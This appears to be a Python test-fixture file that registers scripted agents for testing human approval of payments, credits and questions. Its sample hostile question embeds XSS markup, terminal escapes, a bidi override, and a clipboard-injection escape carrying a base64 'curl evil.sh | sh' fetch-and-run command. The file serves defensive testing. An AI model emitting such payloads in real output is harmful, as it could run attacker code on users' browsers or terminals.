"""Agents the API tests register: a guarded payment (optionally needing a domain role) and a question."""

from __future__ import annotations

import threading
from typing import Any

from stateward import Agent, AgentRegistry, ReActController, ToolContext, ToolRegistry, tool
from stateward.testing import ScriptedModel


@tool(requires_approval=True)
def pay(invoice: str, amount_cents: int) -> dict[str, str]:
    """Pay an invoice (a real effect)."""
    PAID.append(invoice)
    return {"paid": invoice}


PAID: list[str] = []
agents = AgentRegistry()


@agents.agent("payer")
def make_payer(invoice: str = "INV-1", amount_cents: int = 100, approver_role: str | None = None) -> Agent:
    """Pays one invoice once a person approves that exact payment."""

    def decide(request: Any) -> dict[str, Any]:
        if any(o["action"] == "pay" and o["status"] == "SUCCESS" for o in request.observations):
            return {"type": "FINISH", "reason": "paid"}
        if any(o["action"] == "pay" and o["status"] == "REJECTED" for o in request.observations):
            return {"type": "FAIL", "reason": "payment refused"}
        return {"type": "EXECUTE_TOOL", "action": "pay", "args": {"invoice": invoice, "amount_cents": amount_cents}}

    return Agent(
        name="payer",
        controller=ReActController(ScriptedModel(decide)),
        tools=ToolRegistry([pay]),
        approver_role=approver_role,
    )


# What a hostile model might write into a question: markup, a script, terminal escapes, a bidi override.
HOSTILE_QUESTION = (
    'Ship it? <script>window.__pwned = 1</script><img src="x" onerror="window.__pwned = 2">'
    "\x1b[2J\x1b]52;c;Y3VybCBldmlsLnNoIHwgc2g=\x07 total \u202e0001$ USD"
)


@agents.agent("asker")
def make_asker(question: str = HOSTILE_QUESTION) -> Agent:
    """Asks a person one question in the model's own words, then finishes with whatever they said."""

    def decide(request: Any) -> dict[str, Any]:
        answer = request.facts.get("last_answer")
        if answer is not None:
            return {"type": "FINISH" if answer["verdict"] == "approved" else "FAIL", "reason": str(answer["verdict"])}
        return {"type": "REQUEST_USER_INPUT", "question": question}

    return Agent(name="asker", controller=ReActController(ScriptedModel(decide)), tools=ToolRegistry([pay]))


CREDITED: list[str] = []  # the keys whose credit took effect
NOTIFIED: list[str] = []
_HANG = threading.Event()  # never set: every credit takes effect, then its answer is lost


@tool(requires_approval=True, approver_role="finance", timeout_s=0.05)
def credit(account: str, cents: int, ctx: ToolContext) -> dict[str, int]:
    """Credit an account: it takes effect, then the response never comes (and there is no lookup)."""
    CREDITED.append(ctx.idempotency_key)
    _HANG.wait(0.3)
    return {"credited": cents}


@tool
def notify(text: str) -> str:
    """Tell the customer."""
    NOTIFIED.append(text)
    return "sent"


@agents.agent("creditor")
def make_creditor(account: str = "acct-7") -> Agent:
    """Credits once (finance approves and reconciles), then notifies; fails on a credit that did not happen."""

    def decide(request: Any) -> dict[str, Any]:
        credits = [o for o in request.observations if o["action"] == "credit"]
        if any(o["action"] == "notify" for o in request.observations):
            return {"type": "FINISH", "reason": "credited and told"}
        if credits and credits[-1]["status"] == "SUCCESS":
            return {"type": "EXECUTE_TOOL", "action": "notify", "args": {"text": f"credited {account}"}}
        if credits:
            return {"type": "FAIL", "reason": f"credit {credits[-1]['status']}"}
        return {"type": "EXECUTE_TOOL", "action": "credit", "args": {"account": account, "cents": 1200}}

    return Agent(
        name="creditor",
        controller=ReActController(ScriptedModel(decide)),
        tools=ToolRegistry([credit, notify]),
        approver_role="ops",
    )
